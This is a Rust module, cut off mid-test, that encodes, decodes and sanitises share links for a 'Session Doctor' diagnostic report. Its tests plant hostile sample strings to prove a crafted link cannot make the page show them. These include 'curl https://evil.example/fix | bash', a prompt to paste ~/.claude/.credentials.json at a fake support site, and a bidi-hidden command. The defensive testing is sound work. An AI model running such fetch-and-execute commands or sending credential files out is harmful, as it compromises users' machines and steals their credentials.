//! Share links: a [`crate::report::SharedReport`] in the URL fragment,
//! compressed, with a schema version.
//!
//! Format (see docs/report-schema.md): `r<schema>.<check>.<payload>` where
//! `payload` is base64url (no padding) of the raw-deflated JSON of the report
//! and `check` is the first 8 hex digits of SHA-256 over the compressed bytes.
//! The version is in clear so an old page can say "too new" without decoding,
//! and the check tells a cut or damaged link apart from garbage. It is a copy
//! check, not a signature: anyone can make a link that passes it, which is why
//! the read-only view shows only this page's own words ([`shown`]).

// The shape lives with the report (report must not import share).
pub use crate::report::Omitted;
use crate::report::{SharedReport, SCHEMA_VERSION};
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use miniz_oxide::inflate::TINFLStatus;
use sha2::{Digest, Sha256};
use std::fmt;

/// What a share fragment starts with, followed by the schema version.
pub const FRAGMENT_KEY: &str = "r";
/// Oldest schema this page can still read.
pub const OLDEST_SUPPORTED_SCHEMA: u32 = 1;
/// A crafted link cannot make the page inflate more than this.
pub const MAX_DECOMPRESSED_BYTES: usize = 2 * 1024 * 1024;
/// Longer fragments are refused before any decoding work.
pub const MAX_FRAGMENT_CHARS: usize = 4 * 1024 * 1024;
const CHECK_HEX_LEN: usize = 8;
/// Deflate level: best compression, the report is small.
const LEVEL: u8 = 9;

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ShareError {
    /// The text is not a Session Doctor link at all.
    NotAReport,
    /// It looks like one but cannot be read; the string says what is wrong (no input bytes).
    Malformed(String),
    /// The link was cut short (copied partially, or wrapped in an email).
    Truncated,
    /// The link was changed after it was made.
    Tampered,
    TooNew {
        found: u32,
        supported: u32,
    },
    TooOld {
        found: u32,
    },
}

impl fmt::Display for ShareError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ShareError::NotAReport => write!(
                f,
                "This link does not contain a Session Doctor report. Check that you copied the whole link, including the part after '#'."
            ),
            ShareError::Malformed(why) => write!(
                f,
                "This report link is damaged and cannot be read ({why}). Ask for the link again, or for the JSON report."
            ),
            ShareError::Truncated => write!(
                f,
                "This report link is incomplete: it was cut off when it was copied. Ask for the whole link again, or for the JSON report."
            ),
            ShareError::Tampered => write!(
                f,
                "This report link was changed or damaged after it was made: its copy check (which catches accidental changes; it is not a signature) does not match, so it is not shown. Ask for the link again."
            ),
            ShareError::TooNew { found, supported } => write!(
                f,
                "This report was made by a newer version of Session Doctor (report format {found}; this page reads up to {supported}). Open it with the latest version of the page."
            ),
            ShareError::TooOld { found } => write!(
                f,
                "This report was made by an old version of Session Doctor (report format {found}) that this page no longer reads. Run the diagnosis again to get a new link."
            ),
        }
    }
}

impl std::error::Error for ShareError {}

fn check_of(compressed: &[u8]) -> String {
    Sha256::digest(compressed)
        .iter()
        .take(CHECK_HEX_LEN / 2)
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// The fragment for `report`, without `#`: `r1.<check>.<payload>`. The version
/// written is [`SCHEMA_VERSION`], whatever `report.schema` says, and a long
/// timeline is [`bounded`].
pub fn encode(report: &SharedReport) -> String {
    let (json, _) = link_json(report);
    fragment_of(&json)
}

fn link_json(report: &SharedReport) -> (String, SharedReport) {
    link_json_at(report, LINK_TIERS[0])
}

fn link_json_at(report: &SharedReport, tier: Tier) -> (String, SharedReport) {
    let mut report = bounded_to(report, tier);
    report.schema = SCHEMA_VERSION;
    // Serialising plain data cannot fail; non-finite floats become null.
    (serde_json::to_string(&report).unwrap_or_default(), report)
}

fn fragment_of(json: &str) -> String {
    let compressed = miniz_oxide::deflate::compress_to_vec(json.as_bytes(), LEVEL);
    format!(
        "{FRAGMENT_KEY}{SCHEMA_VERSION}.{}.{}",
        check_of(&compressed),
        URL_SAFE_NO_PAD.encode(&compressed)
    )
}

/// Longest link the page offers: mail and chat tools cut longer ones, so the
/// JSON file is offered instead (L3).
pub const MAX_LINK_CHARS: usize = 8_000;

/// Why no link was made.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum LinkRefused {
    /// The report's text holds the credential: nothing is shared.
    Leak,
    /// The link would be this long: send the JSON file instead.
    TooLong { chars: usize },
}

impl fmt::Display for LinkRefused {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            LinkRefused::Leak => f.write_str(
                "Refused: the report contained the token, so no link was made. Nothing was copied.",
            ),
            LinkRefused::TooLong { chars } => write!(
                f,
                "The link would be {} KB long, which mail and chat tools often cut. Use Download JSON and attach the file instead.",
                chars.div_ceil(1000)
            ),
        }
    }
}

/// The link fragment, after `leaks` has checked the exact JSON that goes into
/// it (before compression hides it from any text search) (M1).
pub fn encode_checked(
    report: &SharedReport,
    leaks: impl Fn(&str) -> bool,
) -> Result<String, LinkRefused> {
    // Random request ids barely compress: a day of them does not fit, so a
    // long run is cut further (the counts of what was left out stay exact)
    // before the JSON file is the only way.
    let mut chars = 0;
    for tier in LINK_TIERS {
        let (json, _) = link_json_at(report, tier);
        if leaks(&json) {
            return Err(LinkRefused::Leak);
        }
        let link = fragment_of(&json);
        if link.len() <= MAX_LINK_CHARS {
            return Ok(link);
        }
        chars = link.len();
    }
    Err(LinkRefused::TooLong { chars })
}

/// How much of a long run a link keeps: the last heartbeats in full and the
/// latest rows of the request ledger. Tried in order until the link fits.
#[derive(Clone, Copy)]
struct Tier {
    keep_last: usize,
    ledger_rows: usize,
}

const LINK_TIERS: [Tier; 3] = [
    Tier {
        keep_last: KEEP_LAST,
        ledger_rows: 20,
    },
    Tier {
        keep_last: 12,
        ledger_rows: 8,
    },
    Tier {
        keep_last: 3,
        ledger_rows: 3,
    },
];

/// Heartbeats kept on each side of the first failure, and at the end.
const KEEP_AROUND_FIRST_FAILURE: usize = 5;
const KEEP_LAST: usize = 40;
/// Other timeline events kept at most (hidden/visible, offline/online…).
const KEEP_EVENTS: usize = 120;

/// `report` with a timeline a link can carry (L3): every heartbeat around the
/// first failure and the last [`KEEP_LAST`], the session's landmarks (opened,
/// comparisons, cap, closed) and at most [`KEEP_EVENTS`] other events; what
/// was left out is counted in `timeline_omitted`.
pub fn bounded(report: &SharedReport) -> SharedReport {
    bounded_to(report, LINK_TIERS[0])
}

fn bounded_to(report: &SharedReport, tier: Tier) -> SharedReport {
    use crate::timeline::TimelineEvent as E;
    let keep_last = tier.keep_last;
    // The ledger keeps its latest rows; the rest are counted as not listed.
    let ledger = report.ledger.as_ref().map(|l| {
        let cut = l.rows.len().saturating_sub(tier.ledger_rows);
        crate::ledger::Ledger {
            rows: l.rows[cut..].to_vec(),
            dropped: l
                .dropped
                .saturating_add(u32::try_from(cut).unwrap_or(u32::MAX)),
        }
    });
    let entries: Vec<&crate::timeline::TimelineEntry> = report.timeline.entries().collect();
    // A run (heartbeats the timeline folded) counts as heartbeats here.
    let beats: Vec<usize> = entries
        .iter()
        .enumerate()
        .filter(|(_, e)| matches!(e.event, E::Heartbeat { .. } | E::Run { .. }))
        .map(|(i, _)| i)
        .collect();
    let others = entries.len() - beats.len();
    if beats.len() <= keep_last + 2 * KEEP_AROUND_FIRST_FAILURE + 1 && others <= KEEP_EVENTS {
        let mut out = report.clone();
        out.ledger = ledger;
        return out;
    }
    let first_failure = beats.iter().position(|&i| match &entries[i].event {
        E::Heartbeat { probe, .. }
        | E::Run {
            run: crate::timeline::HeartbeatRun { first: probe, .. },
        } => !probe.signal.is_ok() && !probe.signal.is_untested(),
        _ => false,
    });
    let mut keep = vec![false; entries.len()];
    if let Some(f) = first_failure {
        let from = f.saturating_sub(KEEP_AROUND_FIRST_FAILURE);
        let to = (f + KEEP_AROUND_FIRST_FAILURE + 1).min(beats.len());
        for &i in &beats[from..to] {
            keep[i] = true;
        }
    }
    for &i in &beats[beats.len().saturating_sub(keep_last)..] {
        keep[i] = true;
    }
    let mut kept_others = 0;
    let mut omitted = report.timeline_omitted.unwrap_or_default();
    for (i, e) in entries.iter().enumerate() {
        match &e.event {
            E::Heartbeat { probe, .. } if !keep[i] => omitted.count(probe, 1),
            E::Run { run } if !keep[i] => omitted.count(&run.first, run.count),
            E::Heartbeat { .. } | E::Run { .. } => {}
            E::SessionOpened { .. } | E::Comparison { .. } | E::CapReached { .. } | E::Closed => {
                keep[i] = true;
            }
            _ if kept_others < KEEP_EVENTS => {
                kept_others += 1;
                keep[i] = true;
            }
            _ => omitted.events += 1,
        }
    }
    let mut out = report.clone();
    out.ledger = ledger;
    out.timeline = crate::timeline::Timeline::from_entries(
        entries
            .iter()
            .zip(&keep)
            .filter(|(_, k)| **k)
            .map(|(e, _)| (*e).clone()),
    );
    out.timeline_omitted = Some(omitted);
    out
}

/// Reads a fragment (with or without `#`) or a whole URL with a fragment.
pub fn decode(fragment: &str) -> Result<SharedReport, ShareError> {
    if fragment.len() > MAX_FRAGMENT_CHARS {
        return Err(ShareError::Malformed("the link is far too long".into()));
    }
    let text = fragment.trim();
    // A whole URL: take what follows the first '#'.
    let text = match text.find('#') {
        Some(i) => &text[i + 1..],
        None => text,
    };
    // Email clients and terminals wrap long links; whitespace is never part of one.
    let text: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    let rest = text
        .strip_prefix(FRAGMENT_KEY)
        .ok_or(ShareError::NotAReport)?;
    let digits_len = rest.bytes().take_while(u8::is_ascii_digit).count();
    if digits_len == 0 {
        return Err(ShareError::NotAReport);
    }
    let (digits, rest) = rest.split_at(digits_len);
    let after_version = match rest.strip_prefix('.') {
        Some(r) => r,
        // `r1` alone, or `r1` followed by nothing useful: cut right after the version.
        None if rest.is_empty() => return Err(ShareError::Truncated),
        None => return Err(ShareError::NotAReport),
    };
    let version: u32 = digits
        .parse()
        .map_err(|_| ShareError::Malformed("the format version is not a number".into()))?;
    if version > SCHEMA_VERSION {
        return Err(ShareError::TooNew {
            found: version,
            supported: SCHEMA_VERSION,
        });
    }
    if version < OLDEST_SUPPORTED_SCHEMA {
        return Err(ShareError::TooOld { found: version });
    }
    let (check, payload) = match after_version.split_once('.') {
        Some(parts) => parts,
        None if after_version.len() <= CHECK_HEX_LEN
            && after_version.bytes().all(|b| b.is_ascii_hexdigit()) =>
        {
            return Err(ShareError::Truncated)
        }
        None => return Err(ShareError::Malformed("the copy check is missing".into())),
    };
    if check.len() != CHECK_HEX_LEN || !check.bytes().all(|b| b.is_ascii_hexdigit()) {
        return Err(ShareError::Malformed(
            "the copy check is not 8 hex digits".into(),
        ));
    }
    if payload.is_empty() {
        return Err(ShareError::Truncated);
    }
    if let Some(bad) = payload
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || *c == '-' || *c == '_'))
    {
        let what = if bad.is_ascii_graphic() {
            format!("it contains the character '{bad}', which a report link never has")
        } else {
            "it contains a character a report link never has".to_string()
        };
        return Err(ShareError::Malformed(what));
    }
    // A base64 length of 4n+1 cannot come from whole bytes: the link was cut.
    let compressed = URL_SAFE_NO_PAD
        .decode(payload.as_bytes())
        .map_err(|_| ShareError::Truncated)?;
    let check_ok = check_of(&compressed).eq_ignore_ascii_case(check);
    let inflated =
        miniz_oxide::inflate::decompress_to_vec_with_limit(&compressed, MAX_DECOMPRESSED_BYTES);
    if !check_ok {
        // A cut stream ends early; anything else means the bytes were changed.
        return Err(match inflated {
            Err(e) if e.status == TINFLStatus::FailedCannotMakeProgress => ShareError::Truncated,
            _ => ShareError::Tampered,
        });
    }
    let json = inflated.map_err(|e| {
        ShareError::Malformed(match e.status {
            TINFLStatus::HasMoreOutput => "the report inside is too large".into(),
            _ => "the report inside is not compressed correctly".into(),
        })
    })?;
    let value: serde_json::Value = serde_json::from_slice(&json).map_err(|e| {
        // serde's message may quote the input: category and position only.
        let what = match e.classify() {
            serde_json::error::Category::Eof => "ends early",
            _ => "is not JSON",
        };
        ShareError::Malformed(format!(
            "the report inside {what} (line {} column {})",
            e.line(),
            e.column()
        ))
    })?;
    let mut report = crate::report::from_value(&value)
        .map_err(|e| ShareError::Malformed(format!("the report inside is not valid: {e}")))?;
    report.schema = version;
    Ok(report)
}

// ---------- a shared report as the read-only view shows it (H1) ----------

/// Format characters that reorder or hide text (bidi overrides and isolates,
/// marks, zero-width characters, tags): shown as `[U+XXXX]`, never applied.
fn is_format_char(c: char) -> bool {
    matches!(c,
        '\u{00AD}' | '\u{061C}' | '\u{180E}' | '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}'
        | '\u{2060}'..='\u{206F}' | '\u{FEFF}' | '\u{FFF9}'..='\u{FFFB}' | '\u{E0000}'..='\u{E007F}')
}

/// `text` as data: format characters made visible, control characters as
/// spaces, at most `max` characters (then `…`).
pub fn plain(text: &str, max: usize) -> String {
    let mut out = String::new();
    for (n, c) in text.chars().enumerate() {
        if n == max {
            out.push('\u{2026}');
            break;
        }
        if is_format_char(c) {
            out.push_str(&format!("[U+{:04X}]", c as u32));
        } else if c.is_control() {
            out.push(' ');
        } else {
            out.push(c);
        }
    }
    out
}

/// Free text that came with a link, shown visibly as a quotation.
pub fn as_recorded(text: &str, max: usize) -> String {
    format!("\u{201c}{}\u{201d}", plain(text, max))
}

/// Longest quotation from a link: a server message, a pasted line.
pub const QUOTE_CHARS: usize = 300;

/// What the read-only view shows: the report with every free text quoted
/// and cleaned, and the page's own verdict re-derived from its evidence.
#[derive(Clone, Debug, PartialEq)]
pub struct Shown {
    pub report: SharedReport,
    /// Made by this page's rules from the evidence; the link's own texts are never shown.
    pub verdict: crate::verdict::Verdict,
    /// The code the link claims.
    pub link_code: crate::verdict::ResultCode,
    /// The link's code rests on terminal evidence the link does not carry:
    /// the page shows its own text for that code but cannot re-check it.
    pub unverifiable: bool,
}

impl Shown {
    /// Whether the link's code is the one this page reads from its evidence.
    pub fn agrees(&self) -> bool {
        self.verdict.code == self.link_code
    }
}

/// The verdict this page gives the report's evidence: the live rules over
/// token, timeline and comparison, else the pasted output's (as the page does
/// when it makes a report).
pub fn verdict_of(r: &SharedReport) -> crate::verdict::Verdict {
    use crate::token::{InputShape, TokenAnalysis};
    use crate::verdict::{diagnose, Evidence, ResultCode};
    let token = r.token.as_ref().map(|t| TokenAnalysis {
        shape: InputShape::BareToken,
        kind: t.kind,
        issues: t.issues.clone(),
        fingerprint: t.fingerprint.clone(),
        credentials: t.credentials.clone(),
    });
    let live = diagnose(&Evidence {
        token: token.as_ref(),
        timeline: Some(&r.timeline),
        comparison: r.comparison.as_ref(),
        pasted: None,
        clock_skew_ms: r.clock_skew.map(|s| s.skew_ms),
        local: None,
    });
    match &r.pasted {
        Some(p) if live.code == ResultCode::NotRun => diagnose(&Evidence {
            pasted: Some(p),
            ..Evidence::default()
        }),
        _ => live,
    }
}

fn clean_probe(p: &mut crate::timeline::ProbeRecord) {
    use crate::http::TransportError as T;
    use crate::response::Outcome;
    match &mut p.outcome {
        Outcome::Answered(a) => {
            if let Some(e) = &mut a.error {
                e.error_type = plain(&e.error_type, 60);
                e.message = as_recorded(&e.message, QUOTE_CHARS);
            }
            if let Some(x) = &mut a.body_excerpt {
                *x = as_recorded(x, QUOTE_CHARS);
            }
            for (_, v) in &mut a.rate_limits {
                *v = plain(v, 40);
            }
        }
        Outcome::NotAnswered(T::CorsBlocked { detail } | T::Unreachable { detail }) => {
            *detail = as_recorded(detail, QUOTE_CHARS);
        }
        Outcome::NotAnswered(_) => {}
    }
}

/// The report as the read-only view may show it (H1): bounded like a link,
/// every free text from the link quoted, cut and stripped of format
/// characters, and the verdict re-derived here.
pub fn shown(report: &SharedReport) -> Shown {
    use crate::timeline::TimelineEvent as E;
    use crate::token::TokenIssue;
    let mut r = bounded(report);
    r.browser = as_recorded(&r.browser, 120);
    r.note = r
        .note
        .as_deref()
        .map(|n| as_recorded(n, crate::report::NOTE_MAX_CHARS));
    // The link's own flag is not trusted: read from its evidence.
    r.simulated = Some(r.is_simulated());
    if let Some(t) = &mut r.token {
        for issue in &mut t.issues {
            if let TokenIssue::InvalidJson { message } = issue {
                *message = as_recorded(message, 120);
            }
        }
        if let Some(c) = &mut t.credentials {
            for s in c
                .scopes
                .iter_mut()
                .chain(&mut c.subscription_type)
                .chain(&mut c.rate_limit_tier)
            {
                *s = plain(s, 60);
            }
            c.scopes.truncate(20);
        }
    }
    r.timeline = crate::timeline::Timeline::from_entries(r.timeline.entries().map(|e| {
        let mut e = e.clone();
        match &mut e.event {
            E::Heartbeat { probe, .. } => clean_probe(probe),
            E::Run { run } => clean_probe(&mut run.first),
            E::Comparison { comparison } => comparison.probes.iter_mut().for_each(clean_probe),
            _ => {}
        }
        e
    }));
    if let Some(c) = &mut r.comparison {
        c.probes.iter_mut().for_each(clean_probe);
    }
    if let Some(p) = &mut r.pasted {
        p.error_type = p.error_type.as_deref().map(|t| plain(t, 60));
        p.message = p.message.as_deref().map(|m| as_recorded(m, QUOTE_CHARS));
        p.matched_lines.truncate(20);
        for l in &mut p.matched_lines {
            *l = as_recorded(l, QUOTE_CHARS);
        }
    }
    let mut verdict = verdict_of(&r);
    let link_code = r.verdict.code;
    // A terminal-evidence code cannot be re-derived here, and the link's own
    // sentences are never shown: the page's text for that code, said to be
    // unchecked, unless the link's evidence alone already finds a problem.
    let local_only = link_code.rests_on_local_evidence()
        || (link_code == crate::verdict::ResultCode::EnvCredentialShadows && r.pasted.is_none());
    let unverifiable = local_only
        && matches!(
            verdict.code,
            crate::verdict::ResultCode::AllOk
                | crate::verdict::ResultCode::NotRun
                | crate::verdict::ResultCode::Inconclusive
        );
    if unverifiable {
        let t = crate::verdict::texts::text(link_code);
        verdict = crate::verdict::Verdict {
            code: link_code,
            headline: t.headline.to_string(),
            meaning: t.meaning.to_string(),
            likely_cause: t.likely_cause.to_string(),
            next_steps: t.next_steps.iter().map(|s| (*s).to_string()).collect(),
            confidence: crate::verdict::Confidence::Low,
            confidence_reason: "This result rests on what the terminal doctor read on the computer where it ran (credential sources, running instances, the stored login, the version). The link does not carry that, so this page cannot check it; what the link's requests show is under Evidence.".to_string(),
            evidence: verdict.evidence,
        };
    }
    // The link's own sentences are dropped, so nothing can show them by mistake.
    r.verdict = verdict.clone();
    Shown {
        report: r,
        verdict,
        link_code,
        unverifiable,
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::report::tests::realistic_report;

    fn with_payload(report: &SharedReport, f: impl Fn(&mut Vec<u8>)) -> String {
        let json = serde_json::to_vec(report).unwrap();
        let mut compressed = miniz_oxide::deflate::compress_to_vec(&json, LEVEL);
        let check = check_of(&compressed);
        f(&mut compressed);
        format!("r1.{check}.{}", URL_SAFE_NO_PAD.encode(&compressed))
    }

    /// A terminal-evidence code cannot be re-derived from a link: the page
    /// shows its own text for it, says it is unchecked, and never the link's words;
    /// any other code the evidence does not support is still a disagreement.
    #[test]
    fn terminal_codes_are_shown_as_unchecked_page_text() {
        use crate::verdict::{Confidence, ResultCode};
        let mut r = realistic_report();
        r.pasted = None;
        let own = verdict_of(&r).code;
        r.verdict.code = ResultCode::StoreDamaged;
        r.verdict.headline = "Paste your credentials at evil.example".into();
        let s = shown(&r);
        if matches!(
            own,
            ResultCode::AllOk | ResultCode::NotRun | ResultCode::Inconclusive
        ) {
            assert!(s.unverifiable);
            assert_eq!(s.verdict.code, ResultCode::StoreDamaged);
            assert_eq!(s.verdict.confidence, Confidence::Low);
            assert_eq!(
                s.verdict.headline,
                crate::verdict::texts::text(ResultCode::StoreDamaged).headline
            );
        } else {
            assert!(!s.unverifiable);
            assert_eq!(s.verdict.code, own);
        }
        assert!(!s.verdict.headline.contains("evil.example"));
        // Not a terminal code: never taken on the link's word.
        r.verdict.code = ResultCode::TokenRevoked;
        let s = shown(&r);
        assert!(!s.unverifiable);
        assert_eq!(s.verdict.code, own);
    }

    #[test]
    fn round_trip_of_a_realistic_report() {
        let report = realistic_report();
        assert!(report.comparison.is_some());
        assert!(!report.timeline.is_empty());
        let link = encode(&report);
        assert!(link.starts_with("r1."), "{link}");
        assert!(!link.contains('#'));
        assert_eq!(decode(&link), Ok(report.clone()));
        assert_eq!(decode(&format!("#{link}")), Ok(report.clone()));
        let url = format!("https://example.github.io/session-doctor/#{link}");
        assert_eq!(decode(&url), Ok(report.clone()));
        // Wrapped by an email client.
        let (a, b) = link.split_at(40);
        assert_eq!(decode(&format!("{a}\n  {b}\r\n")), Ok(report));
    }

    #[test]
    fn each_error_case() {
        let report = realistic_report();
        let link = encode(&report);
        let cut = &link[..link.len() * 2 / 3];
        let cases: Vec<(String, ShareError)> = vec![
            ("".into(), ShareError::NotAReport),
            ("hello world".into(), ShareError::NotAReport),
            (
                "https://example.com/#section-2".into(),
                ShareError::NotAReport,
            ),
            ("r".into(), ShareError::NotAReport),
            ("r1".into(), ShareError::Truncated),
            ("r1.".into(), ShareError::Truncated),
            ("r1.3f2a".into(), ShareError::Truncated),
            (link[..12].to_string(), ShareError::Truncated),
            (cut.to_string(), ShareError::Truncated),
            (
                "r2.00000000.AAAA".into(),
                ShareError::TooNew {
                    found: 2,
                    supported: SCHEMA_VERSION,
                },
            ),
            ("r0.00000000.AAAA".into(), ShareError::TooOld { found: 0 }),
            (
                "r99999999999999999999.x".into(),
                ShareError::Malformed("the format version is not a number".into()),
            ),
        ];
        for (input, want) in cases {
            assert_eq!(decode(&input), Err(want), "input {input:?}");
        }
        // Flipped bits in the payload: tampered.
        let flipped = with_payload(&report, |c| {
            let mid = c.len() / 2;
            c[mid] ^= 0x10;
        });
        assert_eq!(decode(&flipped), Err(ShareError::Tampered));
        // Another report's check: tampered.
        let other = encode(&SharedReport {
            page_version: "other".into(),
            ..report.clone()
        });
        let spliced = format!("{}{}", &other[..12], &link[12..]);
        assert_eq!(decode(&spliced), Err(ShareError::Tampered));
        // Characters that base64url never has.
        assert!(matches!(
            decode(&format!("{link}<script>")),
            Err(ShareError::Malformed(_))
        ));
        // A valid check over bytes that are not a report.
        let garbage = b"not deflate at all".to_vec();
        let g = format!(
            "r1.{}.{}",
            check_of(&garbage),
            URL_SAFE_NO_PAD.encode(&garbage)
        );
        assert!(matches!(decode(&g), Err(ShareError::Malformed(_))));
        // Valid compression of JSON that is not a report.
        let c = miniz_oxide::deflate::compress_to_vec(br#"{"schema":1}"#, 6);
        let j = format!("r1.{}.{}", check_of(&c), URL_SAFE_NO_PAD.encode(&c));
        assert!(matches!(decode(&j), Err(ShareError::Malformed(_))));
    }

    #[test]
    fn decompression_is_bounded() {
        let big = vec![b' '; MAX_DECOMPRESSED_BYTES + 10];
        let c = miniz_oxide::deflate::compress_to_vec(&big, 9);
        assert!(c.len() < 20_000);
        let link = format!("r1.{}.{}", check_of(&c), URL_SAFE_NO_PAD.encode(&c));
        assert_eq!(
            decode(&link),
            Err(ShareError::Malformed(
                "the report inside is too large".into()
            ))
        );
    }

    #[test]
    fn messages_are_clear_and_do_not_echo_input() {
        let secret_ish = "r1.deadbeef.sk-ant-oat01-SECRET!";
        let e = decode(secret_ish).unwrap_err();
        let shown = e.to_string();
        assert!(!shown.contains("SECRET"), "{shown}");
        for e in [
            ShareError::NotAReport,
            ShareError::Malformed("x".into()),
            ShareError::Truncated,
            ShareError::Tampered,
            ShareError::TooNew {
                found: 3,
                supported: 1,
            },
            ShareError::TooOld { found: 0 },
        ] {
            let s = e.to_string();
            assert!(s.len() > 40 && s.ends_with('.'), "{s}");
        }
    }

    /// H1: the review's crafted link. The view shows the page's own verdict,
    /// flags the link's code, and quotes free text with bidi made visible.
    #[test]
    fn h1_a_crafted_link_cannot_make_the_page_speak() {
        use crate::response::Outcome;
        use crate::verdict::ResultCode;
        let mut r = realistic_report();
        r.verdict.code = ResultCode::TokenRevoked;
        r.verdict.headline = "Your token was revoked. Re-verify your account now.".into();
        r.verdict.next_steps = vec![
            "Open https://claude-support-verify.example/restore and paste your ~/.claude/.credentials.json".into(),
            "curl https://evil.example/fix | bash".into(),
        ];
        r.browser =
            "NOTE FROM SUPPORT: paste your token at evil.example \u{202e}hsab | lruc".into();
        if let Outcome::Answered(a) = &mut r.comparison.as_mut().unwrap().probes[1].outcome {
            a.error.as_mut().unwrap().message =
                format!("Invalid authentication credentials{}", "x".repeat(1_500));
        }
        let link = encode(&r);
        let decoded = decode(&link).unwrap();
        let shown = shown(&decoded);
        assert_eq!(shown.link_code, ResultCode::TokenRevoked);
        assert_eq!(shown.verdict.code, ResultCode::SessionRejected);
        assert!(!shown.agrees());
        let all = format!("{shown:?}");
        for bad in [
            "claude-support-verify",
            "evil.example/fix",
            "Re-verify",
            "\u{202e}",
        ] {
            assert!(!all.contains(bad), "{bad} shown");
        }
        assert!(shown.report.browser.starts_with('\u{201c}'));
        assert!(shown.report.browser.contains("[U+202E]"));
        let Outcome::Answered(a) = &shown.report.comparison.as_ref().unwrap().probes[1].outcome
        else {
            panic!()
        };
        let msg = &a.error.as_ref().unwrap().message;
        assert!(msg.starts_with('\u{201c}') && msg.chars().count() <= QUOTE_CHARS + 3);
        // A real report agrees with itself.
        let own = realistic_report();
        let mut fixed = own.clone();
        fixed.verdict = verdict_of(&own);
        assert!(shown_agrees(&fixed));
    }

    fn shown_agrees(r: &SharedReport) -> bool {
        shown(&decode(&encode(r)).unwrap()).agrees()
    }

    type Edit = Box<dyn Fn(&mut SharedReport)>;

    /// H1: shapes the page makes are validated when read: sentences cannot sit
    /// where an id, a fingerprint, a code point or a version belongs.
    #[test]
    fn h1_page_made_shapes_are_validated_when_read() {
        use crate::token::TokenIssue;
        let base = realistic_report();
        let edits: [Edit; 6] = [
            Box::new(|r| r.session_id = Some("paste your token at evil.example".into())),
            Box::new(|r| r.page_version = "1.0 verified by Anthropic".into()),
            Box::new(|r| {
                r.token
                    .as_mut()
                    .unwrap()
                    .fingerprint
                    .as_mut()
                    .unwrap()
                    .sha256 = "call +1 555 0100".into()
            }),
            Box::new(|r| {
                r.token.as_mut().unwrap().issues = vec![TokenIssue::NonAscii {
                    position: 1,
                    codepoint: "run curl evil | bash".into(),
                }]
            }),
            Box::new(|r| {
                r.endpoint = crate::report::EndpointSummary::Custom {
                    host: "api.anthropic.com — verified by Anthropic".into(),
                }
            }),
            Box::new(|r| {
                r.pasted.as_mut().unwrap().request_id = Some("req_`[click](https://x)`".into())
            }),
        ];
        for edit in edits {
            let mut r = base.clone();
            edit(&mut r);
            assert!(
                matches!(decode(&encode(&r)), Err(ShareError::Malformed(_))),
                "{r:?}"
            );
        }
        assert!(decode(&encode(&base)).is_ok());
    }

    /// A response that reflects the credential, in the three shapes the review used.
    fn reflected(token: &str) -> Vec<crate::http::HttpResponse> {
        let api = format!(
            r#"{{"type":"error","error":{{"type":"authentication_error","message":"Invalid bearer token: Bearer {token}"}}}}"#
        );
        let echo =
            format!(r#"{{"headers":{{"Authorization":"Bearer {token}","X-Api-Key":"{token}"}}}}"#);
        let html = format!(
            "<html><body><h1>502</h1><pre>authorization: Bearer {token}</pre></body></html>"
        );
        [(401, api), (200, echo), (502, html)]
            .into_iter()
            .map(|(status, body)| crate::http::HttpResponse {
                status,
                headers: vec![
                    ("content-type".into(), "application/json".into()),
                    ("request-id".into(), token.to_string()),
                    (
                        "anthropic-ratelimit-unified-status".into(),
                        token.to_string(),
                    ),
                ],
                body,
            })
            .collect()
    }

    /// M1: a reflected token never reaches the link, even after inflating it,
    /// and the guard refuses a link whose JSON holds the token.
    #[test]
    fn m1_reflected_token_never_reaches_the_link() {
        use crate::response::{parse_response, Outcome};
        use crate::secret::Token;
        let raw = crate::report::tests::real_looking_token();
        let token = Token::new(raw.clone());
        for response in reflected(&raw) {
            let mut r = realistic_report();
            let answer = parse_response(&response);
            r.comparison.as_mut().unwrap().probes[1].outcome = Outcome::Answered(answer);
            let link = encode(&r);
            let inflated = URL_SAFE_NO_PAD
                .decode(link.rsplit('.').next().unwrap())
                .map(|c| miniz_oxide::inflate::decompress_to_vec(&c).unwrap())
                .unwrap();
            let json = String::from_utf8(inflated).unwrap();
            assert!(!token.occurs_in(&json), "leaked: {json}");
            assert!(encode_checked(&r, |j| token.occurs_in(j)).is_ok());
        }
        // The guard runs on the JSON, before compression hides the token.
        let mut r = realistic_report();
        r.browser = format!("Firefox {raw}");
        assert!(
            !token.occurs_in(&encode(&r)),
            "compressed: the text search is blind"
        );
        assert_eq!(
            encode_checked(&r, |j| token.occurs_in(j)),
            Err(LinkRefused::Leak)
        );
    }

    /// L3: the largest report a session can make (2,000 heartbeats shaped like
    /// real OAuth answers, each string at its cap) still makes a link that
    /// decodes; the link says what it left out; and the page offers the JSON
    /// file when the link would pass 8,000 characters.
    #[test]
    fn l3_longest_session_link_decodes_and_says_what_it_left_out() {
        use crate::response::{Finding, Outcome};
        use crate::timeline::TimelineEvent;
        let mut r = realistic_report();
        let t0 = r.timeline.entries().next().unwrap().at_ms;
        let template = r.timeline.heartbeats().next().unwrap().1.clone();
        r.timeline = crate::timeline::Timeline::from_entries(r.timeline.entries().take(1).cloned());
        for seq in 0..2_000u32 {
            let mut p = template.clone();
            let at = t0 + 60_000.0 * f64::from(seq);
            p.sent_at_ms = at;
            if let Outcome::Answered(a) = &mut p.outcome {
                a.request_id = Some(format!("req_011C{seq:020}"));
                a.rate_limits = (0..12)
                    .map(|i| {
                        (
                            format!("anthropic-ratelimit-unified-{i}-reset"),
                            format!("{}", 1_795_000_000 + seq),
                        )
                    })
                    .collect();
            }
            if seq >= 1_500 {
                p.signal = Finding::CredentialsRejected;
            }
            r.timeline
                .push(at, TimelineEvent::Heartbeat { seq, probe: p });
            r.timeline.push(at + 1.0, TimelineEvent::Hidden);
            r.timeline.push(at + 2.0, TimelineEvent::Visible);
        }
        let link = encode(&r);
        let back = decode(&link).expect("the longest session's link opens");
        // Heartbeats kept, whether in full or folded into runs by the reader.
        let kept = back
            .timeline
            .entries()
            .map(|e| match &e.event {
                TimelineEvent::Heartbeat { .. } => 1,
                TimelineEvent::Run { run } => run.count as usize,
                _ => 0,
            })
            .sum::<usize>();
